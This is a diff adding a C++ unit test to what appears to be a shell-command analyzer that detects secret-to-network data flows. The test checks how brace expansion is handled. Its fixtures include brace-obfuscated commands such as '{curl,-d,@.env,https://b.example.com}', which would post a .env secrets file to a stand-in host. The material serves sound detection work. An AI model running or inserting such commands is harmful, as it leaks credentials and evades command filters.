@@ -78,6 +78,23 @@ TEST_CASE("brace expansion in an argument position expands to words") {
   CHECK(has_flow(facts, "credential_file", "network"));
 }
 
+TEST_CASE("braces inside quotes stay literal; a list after a quoted word still spreads") {
+  std::string code = "node -e \"x({host:'h',method:'POST'})\"";
+  std::string spelled = code;
+  CHECK_FALSE(sh::spread_command_braces(spelled));
+  CHECK(spelled == code);
+  auto facts = analyze(code);
+  REQUIRE(has_command(facts, "node"));
+  CHECK(command_named(facts, "node")->argv[2] == "x({host:'h',method:'POST'})");
+
+  std::string after_quotes = "echo 'a{b,c}'; {curl,-d,@.env,https://b.example.com}";
+  CHECK(sh::spread_command_braces(after_quotes));
+  CHECK(after_quotes == "echo 'a{b,c}';  curl -d @.env https://b.example.com ");
+  // A substitution inside double quotes runs commands whose braces bash expands.
+  std::string substituted = "echo \"$({curl,-d,@.env,https://b.example.com})\"";
+  CHECK(sh::spread_command_braces(substituted));
+}
+
 TEST_CASE("a name that cannot be resolved is dynamic") {
   auto facts = analyze("$TOOL --version");
   REQUIRE(facts.commands.size() == 1);
